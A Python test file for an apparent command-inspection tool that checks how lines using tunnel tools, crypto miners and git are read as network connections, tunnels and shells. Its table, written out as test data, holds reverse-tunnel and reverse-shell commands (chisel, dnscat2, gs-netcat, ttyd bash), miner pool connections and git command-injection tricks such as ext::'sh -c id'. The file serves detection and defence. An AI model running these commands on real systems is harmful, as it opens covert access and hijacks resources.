"""Tunnel tools, miners and git, by a table."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guard.parse.reading import UNKNOWN

# A line -> its reading in brief; `*?*` in the line stands for a piece that nobody knows.
TABLE: dict[str, list[str]] = {
    "chisel client 203.0.113.9:8080 R:2222:localhost:22": [
        "connect chisel 203.0.113.9:8080",
        "tunnel chisel remote 203.0.113.9:8080 2222>localhost:22",
    ],
    "chisel client --auth u:p https://h R:socks": [
        "connect chisel h:443",
        "tunnel chisel remote_dynamic h:443 socks>",
    ],
    "chisel client h:80 8080:db:5432 socks": [
        "connect chisel h:80",
        "tunnel chisel local h:80 8080>db:5432",
        "tunnel chisel dynamic h:80 socks>",
    ],
    "chisel server -p 9 --reverse": ["listen chisel :9", "tunnel chisel remote :9 >"],
    "chisel --help": [],
    "frpc -c frpc.ini": ["tunnel frp remote * >", "read frpc.ini", "? low unread_file"],
    "frpc tcp --server_addr h:7000 -l 22 -r 6000": [
        "connect frp h:7000",
        "tunnel frp remote h:7000 6000>22",
    ],
    "frpc --version": [],
    "frps -p 7000": ["listen frp :7000"],
    "ngrok tcp 22": ["tunnel ngrok remote * >22"],
    "ngrok http --url=x.ngrok.app 80": ["tunnel ngrok remote * x.ngrok.app>80"],
    "ngrok config add-authtoken x": [],
    "ngrok --help": [],
    "ngrok version": [],
    "cloudflared tunnel --url http://localhost:80": [
        "tunnel cloudflared remote * >http://localhost:80"
    ],
    "cloudflared tunnel run mine": ["tunnel cloudflared remote * >"],
    "cloudflared tunnel list": [],
    "cloudflared access tcp --hostname h.example --url localhost:9": [
        "connect https h.example:443",
        "tunnel cloudflared local h.example:443 localhost:9>",
    ],
    "cloudflared version": [],
    "bore local 22 --to bore.pub -p 9": [
        "connect bore bore.pub:7835",
        "tunnel bore remote bore.pub:7835 9>localhost:22",
    ],
    "bore server": ["listen bore :7835", "tunnel bore remote :7835 >"],
    "lt --port 80": ["tunnel localtunnel remote * >80"],
    "localtunnel --port 80 --host https://h": [
        "connect localtunnel h:443",
        "tunnel localtunnel remote h:443 >80",
    ],
    "gost -L=:8080 -F=socks5://h:1": [
        "connect socks5 h:1",
        "listen http :8080",
        "tunnel gost dynamic h:1 :8080>",
    ],
    "gost -L=rtcp://:2222/127.0.0.1:22 -F ssh://h:22": [
        "connect ssh h:22",
        "tunnel gost remote h:22 :2222>127.0.0.1:22",
    ],
    "gost -V": [],
    "tailscale up --authkey k --login-server https://hs.example": [
        "connect tailscale hs.example:443",
        "tunnel tailscale device hs.example:443 >",
    ],
    "tailscale funnel 80": ["tunnel tailscale remote  >80"],
    "tailscale up --ssh --advertise-routes=10.20.0.0/16": [
        "connect tailscale controlplane.tailscale.com:443",
        "tunnel tailscale device controlplane.tailscale.com:443 >",
        "tunnel tailscale remote controlplane.tailscale.com >10.20.0.0/16",
    ],
    "tailscale set --advertise-exit-node": ["tunnel tailscale remote  >0.0.0.0/0"],
    "tailscale set --advertise-exit-node=false --hostname x": [],
    "tailscale status": [],
    "tailscale ssh u@h id": ["run [tailscale ssh]: ssh u@h id"],
    "zrok share public localhost:80": ["tunnel zrok remote * >public localhost:80"],
    "pagekite 80 x.pagekite.me": ["tunnel pagekite remote * >"],
    "rathole client.toml": ["tunnel rathole remote * >", "read client.toml", "? low unread_file"],
    "ligolo-agent -connect h:11601 -ignore-cert": [
        "connect ligolo h:11601",
        "tunnel ligolo remote_dynamic h:11601 >",
    ],
    "inlets-pro tcp client --url wss://h:8123 --upstream localhost": [
        "connect inlets h:8123",
        "tunnel inlets remote h:8123 >localhost",
    ],
    "wstunnel client -R tcp://2222:localhost:22 wss://h:443": [
        "connect wstunnel h:443",
        "tunnel wstunnel remote h:443 tcp://2222:localhost:22>",
    ],
    "wstunnel server wss://0.0.0.0:443": ["listen wstunnel :443", "tunnel wstunnel remote :443 >"],
    "iodine -f -P x t.example": ["connect iodine t.example", "tunnel iodine device t.example >"],
    "dnscat2 --dns server=h,port=53 --secret x": [
        "tunnel dnscat2 remote * >",
        "shell reverse * (dnscat2)",
    ],
    "ptunnel -p h -lp 8 -da t -dp 22": ["connect icmp h", "tunnel icmp local h 8>t"],
    "stunnel /etc/stunnel.conf": [
        "tunnel stunnel local * >",
        "read /etc/stunnel.conf",
        "? low unread_file",
    ],
    "wg-quick up wg0": ["tunnel wireguard device * >wg0", "read wg0", "? low unread_file"],
    "wg-quick down wg0": [],
    "wg set wg0 peer K endpoint h:51820": [
        "tunnel wireguard device * >wg0 peer K endpoint h:51820"
    ],
    "wg show": [],
    "netbird up -m https://nb.example:33073 -k K": [
        "connect overlay nb.example:33073",
        "tunnel overlay device nb.example:33073 >",
    ],
    "netbird status": [],
    "tinc -n mesh join URL": ["tunnel tinc device * >URL"],
    "tinc -n mesh info": [],
    "tincd -n mesh": ["tunnel tinc device * >"],
    "warp-cli connect": ["tunnel vpn device * >"],
    "warp-cli status": [],
    "yggdrasil -genconf": [],
    "openvpn --config c.ovpn": ["tunnel openvpn device * >", "read c.ovpn", "? low unread_file"],
    "openvpn --remote h 1194 --dev tun --up /tmp/x": [
        "connect openvpn h:1194",
        "tunnel openvpn device h:1194 >",
        "run [openvpn] may: <sh> /tmp/x",
    ],
    "devtunnel host -p 22": ["tunnel devtunnel remote * >"],
    "tsh ssh -R 1:b:2 u@h": ["run [tsh ssh]: ssh -R 1:b:2 u@h"],
    "tmate": ["connect ssh *", "tunnel tmate remote * >", "shell reverse * (tmate)"],
    "ttyd -p 8080 bash": ["listen http :8080", "shell bind :8080 (ttyd)", "run [ttyd]: bash"],
    "gs-netcat -s x -l -i": ["tunnel gsocket remote * >", "shell reverse * (gs-netcat)"],
    "tor": ["tunnel tor dynamic * >"],
    "xmrig -o stratum+tcp://pool.example:3333 -u W -p x": ["connect stratum pool.example:3333"],
    "xmrig --url=pool.example:443 --donate-level 1": ["connect stratum pool.example:443"],
    "xmrig -o pool.example:3333 -o pool2.example:3333": [
        "connect stratum pool.example:3333",
        "connect stratum pool2.example:3333",
    ],
    "t-rex -a kawpow -o stratum+ssl://p.example:1 -u W": ["connect stratum p.example:1"],
    "lolMiner --algo ETHASH --pool p.example:4444 --user W": ["connect stratum p.example:4444"],
    "ethminer -P stratum://W@p.example:4444": ["connect stratum p.example:4444"],
    "xmrig --help": [],
    "git clone git@github.com:a/b.git": ["connect ssh github.com:22", "write b"],
    "git clone https://github.com/a/b d": ["connect https github.com:443", "write d"],
    "git clone ext::'sh -c id'": ["write sh -c id", "run [git ext::]: <sh> sh -c id"],
    "git clone --config core.sshCommand='ssh -R 1:b:2' u@h:x": [
        "connect ssh h:22",
        "write x",
        "run [git clone -c core.sshCommand] may: <sh> ssh -R 1:b:2 h",
    ],
    "git -c core.pager='ssh h' log": ["run [git -c core.pager] may: <sh> ssh h"],
    "git -c alias.x='!ssh h' x": ["run [git alias.x]: <sh> ssh h"],
    "git -c alias.x='log -1' x": ["run [git alias.x]: git log -1"],
    "git fetch ssh://git@h:2222/x": ["connect ssh h:2222"],
    "git push origin main": ["connect git *", "send git * .git"],
    "git pull": ["connect git *"],
    "git push --receive-pack='ssh h' ../r main": ["run [git --upload-pack] may: <sh> ssh h"],
    "git remote add o git@h:x": ["append .git/config"],
    "git submodule foreach 'ssh h'": ["run [git submodule foreach] may: <sh> ssh h"],
    "git config --global core.sshCommand 'ssh -R 1:b:2'": [
        "append ~/.gitconfig",
        "run [git config core.sshCommand] may: <sh> ssh -R 1:b:2 *",
    ],
    "git config alias.x '!ssh h'": [
        "append .git/config",
        "run [git config alias.x] may: <sh> ssh h",
    ],
    "git config core.hooksPath /tmp/h": ["append .git/config", "? medium unread_file"],
    "git config --get user.name": [],
    "git config user.name me": ["append .git/config"],
    "git rebase -x 'make test' main": ["run [git rebase -x] may: <sh> make test"],
    "git bisect run ./t.sh": ["run [git bisect run] may: ./t.sh"],
    "git difftool -x 'ssh h'": ["run [git difftool -x] may: <sh> ssh h"],
    "git grep -O'ssh h' x": ["run [git grep -O] may: <sh> ssh h"],
    "git daemon --port=9419": ["listen git :9419"],
    "git status": [],
    "git commit -m 'use ssh -R 1:b:2'": [],
    "git clean -fdx": ["delete -r ."],
    "git rm -r old": ["delete -r old"],
    "git archive --remote=u@h:x main -o a.tar": ["connect ssh h:22", "write a.tar"],
    "git log --oneline -5": [],
}


@pytest.mark.parametrize("line", TABLE)
def test_what_a_tool_opens_is_said(line: str, told: Callable[..., list[str]]) -> None:
    """Tunnels have a direction; harmless subcommands open nothing."""
    assert told(line.replace("*?*", UNKNOWN)) == TABLE[line]
